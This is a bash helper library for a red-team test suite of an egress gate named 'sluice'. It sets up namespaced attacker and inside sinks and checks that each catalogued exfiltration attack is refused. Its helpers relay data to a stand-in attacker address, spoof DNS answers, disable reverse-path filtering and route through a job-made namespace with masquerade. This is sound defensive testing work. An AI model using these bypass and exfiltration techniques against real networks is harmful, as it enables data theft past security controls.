# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# What run and the rows share; sourced after tests/netns/lib.sh.
#
# A row is a file rows/NNN-slug.sh (NNN: the row of the catalogue in RESEARCH §2; b…, c…: what passed bullfrog and cijail; d… (DNS), x…: what
# the catalogue lacks).  It is sourced in a subshell, and sets
#     title=     the attack in a few words           origin=   paper, CVE, issue, or the catalogue's row
#     who=       user (uid 65534, no capability), cap (the same with CAP_NET_RAW) or root (of c: a machine or container of its own)
#     sink=      a (the attacker), s (the inside servers, for forbidden names at shared addresses) or g (the link's neighbour)
#     reason=    the event's reason, an ERE; or "silent: why" where no event is due
#     verdict=   for the table, where it is not what the event says ("trimmed", "masked")
#     forms=     where the gate stands: "output forward" by default; "run" is `sluice run`
#     extra=()   policy entries that only this row needs (the gate is told to read its policy again: about a second)
#     cannot=    why it cannot exist on a build host: then nothing else is needed but title and origin
# and defines attack NONCE (by client …), perhaps prepare NONCE (servers, files; before each attack), arrived NONCE (is it at the sink?),
# early NONCE (before a gate starts; without one: before the attack).
ROWS=$ROOT/tests/redteam/rows
TOOL=$T/tools # the rows' tools, where every user can read them
RESULTS=$T/results
who=root
declare -A CAPTURE=([a]=a0 [s]=s0 [g]=gc)

# The bed of lib.sh with sinks in the place of its servers.
redteam_bed() {
    trap bed_down EXIT
    trap 'exit 130' INT TERM HUP
    [ "$(id -u)" = 0 ] || { echo "skip everything: needs root" && echo "0 passed, 0 failed, 1 skipped" && exit 0; }
    [ -n "$CGROUPS" ] || { echo "no cgroup v2 is mounted" && exit 1; }
    # ports: how many the tools have used (raw.py).
    mkdir -p "$TOOL" "$RESULTS" && : > "$TOOL/ports" && chmod 666 "$TOOL/ports" && cp "$ROOT"/tests/redteam/tools/* "$ROOT/tests/netns/far.py" "$ROOT/tests/netns/near.py" "$TOOL"
    chmod -R a+rX "$TOOL"
    net_up
    echo "options attempts:5" >> "$T/resolv.c" # a name that is allowed is resolved, however late
    certificates
    chmod 644 "$CA"
    dns_up
    far_up s inside
    # Packets by hand (tools/raw.py): our kernel knows nothing of their connections and would reset them.
    h c nft -f - <<'NFT' || exit 1
table inet hand {
    chain out { type filter hook output priority -400; meta mark 0 tcp sport 61000-65535 tcp flags & (fin|syn|rst|psh|ack) == rst drop; }
}
NFT
    local host
    for host in a s; do
        start "$T/sink.$host" $host "$PYTHON" "$TOOL/sink.py" $host "$T/$([ $host = s ] && echo web || echo evil).pem" "$T/$([ $host = s ] && echo web || echo evil).key"
        eventually 15 grep -q ready "$T/sink.$host" || { cat "$T/sink.$host" && exit 1; }
    done
    for host in a s g; do capture $host ${CAPTURE[$host]} 'ip or ip6'; done
    : > "$T/sink.g"
}

# client COMMAND...: as `who`, in the scope of the form.  `sluice run` is one run a command.
client() {
    local user=()
    case $who in
    user) user=(setpriv --reuid 65534 --regid 65534 --clear-groups --inh-caps=-all --bounding-set=-all --no-new-privs) ;;
    cap) user=(setpriv --reuid 65534 --regid 65534 --clear-groups "--inh-caps=-all,+net_raw" "--bounding-set=-all,+net_raw" --ambient-caps=+net_raw) ;;
    esac
    case $FORM in
    output) h c sh -c 'echo $$ > "$1/cgroup.procs" && shift && exec "$@"' sh "$CGROUPS$CGROUP" "${user[@]}" "$@" ;;
    run)
        local as=(--as-root) sudo=(-u SUDO_UID)
        [ $who = root ] || as=() sudo=(SUDO_UID=65534 SUDO_GID=65534)
        h c env "${sudo[@]}" "$SLUICE" run "${as[@]}" -p "$T/run.yaml" --profile test --events "$T/events" -- "$@"
        ;;
    *) h c "${user[@]}" "$@" ;;
    esac
}
tool() { client "$PYTHON" "$TOOL/$1" "${@:2}"; }
near() { tool near.py "$@"; }

# For a row whose bytes may arrive as long as the server does not read the forbidden name: arrived() { name_arrived "$1"; }
name_arrived() { grep -aq "^tls [0-9]* $1" "$T/sink.$sink"; }

# In the client's host, but outside of the scope (a daemon of the machine; in the forward form there is no outside).
beside() { h c "$@"; }

# A daemon at PATH (@NAME: an abstract one) of the client's host, which sends to the attacker what it is told.
engine() {
    case $1 in /*) h c mkdir -p "$(dirname "$1")" ;; esac
    start "$T/engine.$NAME" c "$PYTHON" "$TOOL/send.py" engine "$1" 198.18.3.66 9999
    eventually 15 grep -q listening "$T/engine.$NAME" || die "$(cat "$T/engine.$NAME")"
}
# Those at PATH..., each of which binds its socket again and again; the last comes to life only when the job runs.
engines_again() {
    local path number=0
    for path in "$@"; do
        number=$((number + 1))
        h c mkdir -p "$(dirname "$path")"
        start "$T/again.$NAME.$number" c sh -c 'sleep "$1" && shift && exec "$@"' sh "$([ $number = $# ] && echo 1.2 || echo 0)" \
            "$PYTHON" "$TOOL/send.py" engine_again "$path" 198.18.3.66 9999
        [ $number = $# ] || eventually 15 grep -q listening "$T/again.$NAME.$number" || die "$(cat "$T/again.$NAME.$number")"
    done
}
# rest MS: as long, with a processor for each who wants one: what something waited for them (PSI) comes on top, two seconds at most.
rest() {
    local start before more=0
    before=$(waited_ms) || before=
    start=$(now_ms)
    until [ $(($(now_ms) - start)) -ge $(($1 * SLOW + more)) ]; do
        sleep 0.01
        [ -z "$before" ] || more=$(($(waited_ms) - before))
        [ $more -le 2000 ] || more=2000
    done
}
# linger NONCE: an attack by programs that go on until they are ended: not before it came, or was refused.
linger() {
    if [ -n "$FORM" ]; then eventually 10 event_since "$from"; else eventually 10 arrived "$1"; fi || true
}
# Packets with a false source are let in, as where nobody looks (rp_filter).
strangers_pass() { h g sh -c 'for i in all default gc gs ga; do echo 0 > /proc/sys/net/ipv4/conf/$i/rp_filter; done'; }
# stranger_answers NONCE HOW...: the job asks a slow server; a stranger answers in the resolver's name (tools/dnswire.py), before it.
stranger_answers() {
    client timeout 20 dig -b 198.18.1.2#5353 +tries=1 +timeout=10 @198.18.2.53 slow.test > /dev/null &
    sleep 0.2
    h a "$PYTHON" "$TOOL/dnswire.py" stranger "$@"
    client curl -sk --max-time 20 --resolve slow.test:443:198.18.3.66 "https://slow.test/$1"
    wait $!
}
# through_the_job COMMAND...: in a network namespace that the job makes inside its own, routes and masquerades.  Nothing of it is left.
through_the_job() {
    client bash -c '
        unshare -n sleep 60 & inner=$!
        for i in {1..400}; do [ "$(readlink /proc/$inner/ns/net)" != "$(readlink /proc/self/ns/net)" ] && break; sleep 0.05; done
        ip link add red0 type veth peer name red1 netns $inner && ip addr add 192.0.2.1/30 dev red0 && ip link set red0 up
        nsenter -t $inner -n sh -c "ip addr add 192.0.2.2/30 dev red1; ip link set red1 up; ip route add default via 192.0.2.1"
        echo 1 > /proc/sys/net/ipv4/ip_forward
        nft "add table ip red; add chain ip red post { type nat hook postrouting priority 100; }; add rule ip red post ip saddr 192.0.2.2 masquerade"
        nsenter -t $inner -n "$@"
        nft delete table ip red; ip link del red0; kill $inner' bash "$@"
}

# ---- rows ----

# row FILE COMMAND...: runs COMMAND with the row's variables and functions.
row() {
    local file=$1
    shift
    (
        # shellcheck disable=SC2034
        title='' origin='' who=user sink=a reason='' verdict='' forms='output forward' extra=() cannot=''
        NAME=$(basename "$file" .sh)
        prepare() { :; }
        early() { :; }
        arrived() { grep -aiq -- "$1" "$T/sink.$sink" || grep -aiq -- "$1" "$T/$sink.pcap"; }
        # shellcheck disable=SC1090
        . "$file"
        "$@"
    )
}
row_is_sound() {
    [ -n "$title" ] && [ -n "$origin" ] || die "title and origin are needed"
    [ -n "$cannot" ] || [ -n "$reason" ] || die "a reason is needed"
    [ -n "$cannot" ] || declare -F attack > /dev/null || die "no attack"
}
row_line() { printf '%s\n' "${cannot:+cannot}|$forms|$who|$sink|${#extra[@]}|$NAME: $title"; }

# Without a gate the nonce arrives: the attack is real.
row_reaches() {
    local n
    n=$(nonce)
    early "$n"
    prepare "$n"
    attack "$n" || true
    if [[ $sink == g ]]; then settle g; fi
    eventually 15 arrived "$n" || die "even without the gate it did not arrive"
}

# Before the gate starts: the row's nonce for this form.
row_early() {
    local n
    n=$(nonce)
    echo "$n" > "$RESULTS/$NAME.$FORM.nonce"
    early "$n"
}

# With it: an event says why, and an allowed fetch succeeds.  Whether the nonce arrived is asked when all attacks were made.
row_refused() {
    local n from
    n=$(cat "$RESULTS/$NAME.$FORM.nonce")
    from=$(date -u +%Y-%m-%dT%H:%M:%S.%3NZ)
    prepare "$n"
    : > "$RESULTS/$NAME.$FORM.made"
    attack "$n" || true
    case $reason in
    silent:*) echo "${verdict:-dropped}|${reason#silent: }" > "$RESULTS/$NAME.$FORM" ;;
    *)
        # Of many refusals of one reason in a second, by a row before, the gate tells a count: then once more.
        eventually 3 event_or_count "$from" || true
        if ! event_since "$from" && tail -n 50 "$T/events" | grep -q refusals_untold; then
            sleep 1.2
            attack "$n" || true
        fi
        eventually 10 event_since "$from" || {
            echo "no event with reason $reason since $from; the last are:"
            tail -n 5 "$T/events" | cut -c 1-500
            return 1
        }
        ;;
    esac
    who=root fetch -4 https://allowed.test/hello | grep -q 'hello from allowed.test' || die "the allowed fetch failed"
}
# event_since TIME: a refusal for the row's reason is there; leaves its verdict and reason for the table.
event_since() {
    local seen
    seen=$(tail -n 3000 "$T/events" | grep -E "\"reason\" *: *\"($reason)\"" | jq -r --arg from "$1" --arg verdict "$verdict" \
        'select(.["@timestamp"] >= $from) | (if $verdict != "" then $verdict else .sluice.verdict end) + "|" + .event.reason' | head -n 1)
    [ -n "$seen" ] && echo "$seen" > "$RESULTS/$NAME.$FORM"
}
event_or_count() { event_since "$1" || tail -n 50 "$T/events" | grep -F refusals_untold | jq -e --arg from "$1" 'select(.["@timestamp"] >= $from)' > /dev/null; }
row_never_arrived() {
    local n
    [ -e "$RESULTS/$NAME.$FORM.made" ] || die "no attack was made"
    n=$(cat "$RESULTS/$NAME.$FORM.nonce")
    if arrived "$n"; then
        rm -f "$RESULTS/$NAME.$FORM"
        { grep -ai -- "$n" "$T/sink.$sink" || echo "in the capture of $sink"; } | cut -c 1-300
        die "it passed the gate: $n"
    fi
}

# The row's facts for the table, from what the run saw: a JSON object.
row_json() {
    local form seen='' lines=''
    if [ -z "$cannot" ]; then
        for form in $forms; do
            [ -s "$RESULTS/$NAME.$form" ] || continue
            seen="$seen $form"
            lines+="$(cat "$RESULTS/$NAME.$form")"$'\n'
        done
        lines=$(sort -u <<< "${lines%$'\n'}")
    fi
    jq -n --arg row "$NAME" --arg attack "$title" --arg origin "$origin" --arg cannot "$cannot" --arg who "$who" --arg forms "$forms" \
        --arg seen "${seen# }" --arg lines "$lines" \
        '($lines | split("\n") | map(split("|"))) as $l |
        {row: $row, attack: $attack, origin: $origin, who: $who, forms: ($forms | split(" ")), seen: ($seen | split(" ")),
         verdict: (if $cannot != "" then "cannot be here" else [$l[][0]] | unique | join(", ") end),
         reason: (if $cannot != "" then $cannot else [$l[][1]] | unique | join(", ") end)}'
}
